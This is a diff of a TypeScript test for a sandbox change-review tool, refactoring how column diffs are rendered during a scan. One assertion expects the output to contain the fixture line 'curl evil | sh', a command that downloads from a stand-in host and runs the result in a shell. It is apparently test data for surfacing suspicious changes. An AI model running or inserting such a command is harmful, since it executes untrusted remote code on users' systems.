@@ -9,7 +9,7 @@ import { mkdirSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { makeFixture, markStarted, whiteout, write, type Fixture } from './changes-fixture.js';
 import { scanSandbox, scanSandboxAsync } from '../../sandbox-core/changes/scan.js';
-import { changesJson, columnDiffs, renderDiffs, renderSummary, summaryPlan, DIFF_MAX_BYTES } from '../../cli/render-changes.js';
+import { changesJson, renderDiffs, renderSummary, summaryPlan, DIFF_MAX_BYTES } from '../../cli/render-changes.js';
 import { summaryMarker } from '../../cli/summary-marker.js';
 import { DiffFolds } from '../../cli/render-diff-folds.js';
 import { gitRepoOf } from '../../sandbox-core/changes/repo-fold.js';
@@ -264,8 +264,8 @@ test("sbx diff: what the summary folds gets no diff, one line per group says so;
   assert.equal(diffNames(text), want, text);
   assert.ok(text.includes('+curl evil | sh'), text);
   assert.ok(text.endsWith(`${tail.join('\n')}\n`), text);
-  // The full review's scan: columns marked and their diffs made while the helper walks.
-  const scan = await scanSandboxAsync(f.meta, { readNewUpTo: DIFF_MAX_BYTES, columns: true, markColumn: marker.mark, renderColumn: columnDiffs(plain)! });
+  // The full review's scan: columns marked and their texts kept while the helper walks.
+  const scan = await scanSandboxAsync(f.meta, { readNewUpTo: DIFF_MAX_BYTES, columns: true, markColumn: marker.mark, keepTexts: true });
   assert.ok(scan.named && scan.named.length > 10);
   const cols = await renderDiffs(scan.changes, plain, scan.named, new DiffFolds({ marker, ref }));
   assert.is(cols, text);
